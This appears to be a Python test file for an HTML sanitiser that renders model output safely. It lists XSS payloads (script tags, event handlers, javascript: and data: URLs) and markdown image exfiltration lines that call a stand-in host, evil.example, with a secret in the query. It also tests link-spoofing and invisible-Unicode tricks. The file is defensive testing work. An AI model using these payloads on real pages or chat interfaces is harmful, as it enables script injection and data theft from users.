"""Whatever a model or a document writes: the HTML of it runs nothing, loads nothing, and says where links lead."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from assistant.text.safe_html import TAGS, safe_html, safe_inline_html, seen

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![refund](https://evil.example/pixel.png?q=secret)",
    "![refund][1]\n\n[1]: https://evil.example/pixel.png",
    "[Your refund](javascript:alert(1))",
    "[Your refund](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='https://evil.example' onclick=alert(1)>refund</a>",
    "<svg/onload=alert(1)>",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "`<iframe src=//evil.example>`",
    "<http://[bad>",
    "[x](http://[::1)",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("render", [safe_html, safe_inline_html])
def test_nothing_runs_and_nothing_is_loaded(text: str, render: object) -> None:
    tree = HTMLParser(render(text))  # type: ignore[operator]
    for node in tree.css("body *"):
        assert node.tag in TAGS
        assert set(node.attributes) <= {"href", "target", "rel"}
        if node.tag == "a":
            assert str(node.attributes["href"]).startswith(("http://", "https://"))
            assert node.attributes["rel"] == "noopener noreferrer nofollow"


@given(st.text(alphabet=st.sampled_from("<>[]()!`*_#|\\/\"'&;:=- \nabcdefhijlmnoprstux1"), max_size=120))
def test_no_text_of_markup_makes_another_tag(text: str) -> None:
    assert {node.tag for node in HTMLParser(safe_html(text)).css("body *")} <= TAGS


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("[Returns](https://help.fernhill.example/returns)", "Returns (help.fernhill.example)"),
        ("[https://bank.example](https://evil.example/)", "https://bank.example (evil.example)"),
        ("[https://bank.example.org](https://bank.example/)", "https://bank.example.org (bank.example)"),
        ("[Bank](https://bank.example@evil.example/)", "Bank (evil.example)"),
        ("<https://help.fernhill.example/returns>", "https://help.fernhill.example/returns"),
    ],
)
def test_a_link_says_where_it_leads(markdown: str, words: str) -> None:
    assert HTMLParser(safe_inline_html(markdown)).body.text() == words  # type: ignore[union-attr]


def test_lists_tables_and_emphasis_are_shown_as_such() -> None:
    html = safe_html(
        "## Steps\n\n1. Hold **Clean**\n2. Wait\n\n| Machine | Years |\n|---|---|\n| Duo | 3 |\n\n• one\n• two"
    )
    tags = [node.tag for node in HTMLParser(html).css("h4, ol, li, strong, table, ul")]
    assert tags == ["h4", "ol", "li", "strong", "li", "table", "ul", "li", "li"]


def test_characters_that_nobody_sees_are_taken_out_and_joiners_stay() -> None:
    assert seen("pay\u200bpal \u202egnp.exe\u202c \U000e0041x\ufeff") == "paypal gnp.exe x"
    assert seen("می\u200cخواهم 👩\u200d🔧") == "می\u200cخواهم 👩\u200d🔧"
